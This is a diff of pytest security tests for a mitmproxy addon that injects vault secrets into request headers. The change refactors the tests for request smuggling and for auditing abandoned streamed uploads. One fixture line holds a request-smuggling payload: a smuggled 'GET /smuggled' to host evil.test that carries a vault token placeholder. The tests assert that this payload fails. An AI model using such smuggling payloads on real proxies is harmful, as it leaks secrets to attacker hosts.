@@ -114,6 +114,22 @@ def test_a_client_chosen_sni_never_carries_a_secret_elsewhere(
 # --- 2. request smuggling through a streamed upload -----------------------------------------------
 
 
+def streamed_upload(upstream: RecordingUpstream, path: str, key: str, length: int) -> bytes:
+    """The head of a POST of `length` bytes to `upstream` with `key` in a header, through a
+    proxy that streams its body (stream_large_bodies=1k)."""
+    origin = f"{LOOPBACK}:{upstream.port}"
+    return (
+        f"POST http://{origin}{path} HTTP/1.1\r\nHost: {origin}\r\nContent-Type: text/plain\r\n"
+        f"Content-Length: {length}\r\nX-Token: <<vault:{key}>>\r\n\r\n"
+    ).encode()
+
+
+def the_audit_line(home: Path, path: str) -> dict:
+    wait_until(lambda: bool(audit_lines(home, path)), CLIENT_TIMEOUT, f"the audit line of {path}")
+    (line,) = audit_lines(home, path)
+    return line
+
+
 def test_an_early_response_cannot_turn_a_streamed_body_into_a_request(
     mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
 ) -> None:
@@ -127,13 +143,8 @@ def test_an_early_response_cannot_turn_a_streamed_body_into_a_request(
         b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\nX-Token: <<vault:smug.tok>>\r\n"
         b"Content-Length: 0\r\n\r\n"
     )
-    origin = f"{LOOPBACK}:{upstream.port}"
-    head = (
-        f"POST http://{origin}/upload HTTP/1.1\r\nHost: {origin}\r\nContent-Type: text/plain\r\n"
-        f"Content-Length: {len(first) + len(rest)}\r\nX-Token: <<vault:smug.tok>>\r\n\r\n"
-    )
     with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
-        sock.sendall(head.encode() + first)
+        sock.sendall(streamed_upload(upstream, "/upload", "smug.tok", len(first) + len(rest)) + first)
         assert read_response(sock).status == 401
         sock.sendall(rest)
         (upload,) = upstream.wait_for(1)
@@ -141,31 +152,8 @@ def test_an_early_response_cannot_turn_a_streamed_body_into_a_request(
     assert [r.path for r in upstream.requests] == ["/upload"]
     assert upload.header("x-token") == TOKEN + "Smuggled" and upload.chunked
     assert upload.body == first + rest.replace(b"<<vault:smug.tok>>", (TOKEN + "Smuggled").encode())
-    wait_until(lambda: bool(audit_lines(home, "/upload")), CLIENT_TIMEOUT, "the upload's audit line")
-    (line,) = audit_lines(home, "/upload")
+    line = the_audit_line(home, "/upload")
     assert line["keys"] == ["smug.tok"] and line["outcome"] == "resolved"
-
-
-def test_a_streamed_upload_answered_early_then_abandoned_is_still_audited(
-    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
-) -> None:
-    """The upstream answers on seeing the head, and the client then hangs up mid-body: mitmproxy
-    fires no hook for that (the response is done), but the head's value went upstream."""
-    home = vault_with(tmp_path / "home", **{"gone.tok": (TOKEN + "Gone", [LOOPBACK])})
-    upstream.route("/abandoned", Reply(status=401, body=b"go away", early=True))
-    proxy = mitmdump(options={"vault_home": str(home), "stream_large_bodies": "1k"})
-    origin = f"{LOOPBACK}:{upstream.port}"
-    head = (
-        f"POST http://{origin}/abandoned HTTP/1.1\r\nHost: {origin}\r\nContent-Type: text/plain\r\n"
-        f"Content-Length: 100000\r\nX-Token: <<vault:gone.tok>>\r\n\r\n"
-    )
-    with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
-        sock.sendall(head.encode() + b"a" * 4096)
-        assert read_response(sock).status == 401
-    wait_until(lambda: bool(audit_lines(home, "/abandoned")), CLIENT_TIMEOUT, "the abandoned upload's audit line")
-    (line,) = audit_lines(home, "/abandoned")
-    assert line["keys"] == ["gone.tok"] and line["outcome"] == "resolved"
-
 
 
 SLOW_ANSWERS = """import asyncio
@@ -180,27 +168,28 @@ addons = [SlowAnswers()]
 """
 
 
-def test_an_upload_abandoned_while_another_addon_holds_its_answer_is_still_audited(
-    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path
+@pytest.mark.parametrize("answer", ["read", "held by another addon"])
+def test_a_streamed_upload_answered_early_then_abandoned_is_still_audited(
+    mitmdump: StartProxy, upstream: RecordingUpstream, tmp_path: Path, answer: str
 ) -> None:
-    """An addon ahead of vaultproxy takes its time over the early answer, and the client hangs
-    up meanwhile: mitmproxy reports the hang-up before vaultproxy has seen the answer."""
-    home = vault_with(tmp_path / "home", **{"held.tok": (TOKEN + "Held", [LOOPBACK])})
+    """The upstream answers on seeing the head, and the client hangs up mid-body: mitmproxy
+    fires no hook for that (the response is done), but the head's value went upstream. When an
+    addon ahead of vaultproxy takes its time over the answer, and the client hangs up
+    meanwhile, mitmproxy reports the hang-up before vaultproxy has seen the answer."""
+    home = vault_with(tmp_path / "home", **{"gone.tok": (TOKEN + "Gone", [LOOPBACK])})
+    upstream.route("/abandoned", Reply(status=401, body=b"go away", early=True))
     slow = tmp_path / "slow_answers.py"
     slow.write_text(SLOW_ANSWERS)
-    upstream.route("/held", Reply(status=401, body=b"go away", early=True))
-    proxy = mitmdump(addon=False, args=["-s", str(slow), "-s", str(ADDON_SCRIPT)], options={"vault_home": str(home), "stream_large_bodies": "1k"})
-    origin = f"{LOOPBACK}:{upstream.port}"
-    head = (
-        f"POST http://{origin}/held HTTP/1.1\r\nHost: {origin}\r\nContent-Type: text/plain\r\n"
-        f"Content-Length: 100000\r\nX-Token: <<vault:held.tok>>\r\n\r\n"
-    )
+    ahead = ["-s", str(slow)] if answer == "held by another addon" else []
+    proxy = mitmdump(addon=False, args=[*ahead, "-s", str(ADDON_SCRIPT)], options={"vault_home": str(home), "stream_large_bodies": "1k"})
     with socket.create_connection((LOOPBACK, proxy.port), timeout=CLIENT_TIMEOUT) as sock:
-        sock.sendall(head.encode() + b"a" * 4096)
-        time.sleep(0.5)  # the answer has come, and is held by SlowAnswers
-    wait_until(lambda: bool(audit_lines(home, "/held")), CLIENT_TIMEOUT, "the abandoned upload's audit line")
-    (line,) = audit_lines(home, "/held")
-    assert line["keys"] == ["held.tok"] and line["outcome"] == "resolved"
+        sock.sendall(streamed_upload(upstream, "/abandoned", "gone.tok", 100000) + b"a" * 4096)
+        if ahead:
+            time.sleep(0.5)  # the answer has come, and is held by SlowAnswers
+        else:
+            assert read_response(sock).status == 401
+    line = the_audit_line(home, "/abandoned")
+    assert line["keys"] == ["gone.tok"] and line["outcome"] == "resolved"
 
 
 def test_a_compressed_request_body_that_inflates_to_gigabytes_is_not_decoded_past_a_bound(
